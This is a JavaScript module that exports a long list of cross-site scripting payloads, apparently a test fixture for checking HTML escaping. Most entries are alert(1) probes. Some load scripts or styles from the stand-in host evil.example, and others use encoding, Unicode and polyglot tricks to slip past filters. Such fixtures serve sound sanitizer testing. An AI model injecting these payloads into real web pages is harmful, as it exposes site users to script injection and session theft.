// One text a line, so that an attack can be added without thinking about quotes; \n and the like stand for themselves.
const LINES = String.raw`
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//evil.example></script>
<script/src=data:,alert(1)></script>
<script >alert(1)</script >
<scr<script>ipt>alert(1)</scr</script>ipt>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</option></select><script>alert(1)</script>
</style><script>alert(1)</script>
</script><script>alert(1)</script>
</code></pre><script>alert(1)</script>
</bdi></strong></h1><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<!--<script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img/src=x/onerror=alert(1)>
<img src="x" onerror='alert(1)'
<img src=x:x onerror=alert(1)//
"><img src=x onerror=alert(1)>
<image src=x onerror=alert(1)>
<img srcset="x" onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y="1em">x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/>
<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<html onmouseover=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe onload=alert(1)></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<meter onmouseover=alert(1)>0</meter>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import '//evil.example';</style>
<div style="background:url(javascript:alert(1))">
<div popover id=nav onbeforetoggle=alert(1)>x</div>
<template><script>alert(1)</script></template>
<dialog open onclose=alert(1)>
<x onclick=alert(1) tabindex=1 id=x>x</x>
" onmouseover="alert(1)
" onfocus=alert(1) autofocus="
' onmouseover='alert(1)
" style="display:block;position:fixed;inset:0" x="
" popovertarget="delete" x="
" formaction="//evil.example" x="
" href="javascript:alert(1)" x="
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript://%0aalert(1)
&#106;avascript:alert(1)
&#x6A;&#x61;vascript:alert(1)
java&Tab;script:alert(1)
data:text/html,<script>alert(1)</script>
data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+
vbscript:msgbox(1)
//evil.example/
/\evil.example/
https://evil.example/"><script>alert(1)</script>
https://user:pass@evil.example/
com.example.app:/<script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
{{constructor.constructor('alert(1)')()}}
${'$'}{alert(1)}
#{alert(1)}
<%= 7*7 %>
{n}{client}{provider}
jaVasCript:/*-/*'/*\'/*"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(1)//>
`

/** Texts that become markup or script in a page that escapes badly. */
export const payloads: readonly string[] = [
  ...LINES.split('\n').filter((line) => line !== ''),
  'java\nscript:alert(1)',
  '\u0000<script>alert(1)</script>',
  '<\u0000script>alert(1)</script>',
  '\u2028<img src=x\u000conerror=alert(1)>',
  '\ufeff"\u00a0onmouseover=alert(1)\u00a0',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\ud800"><script>alert(1)</script>',
]
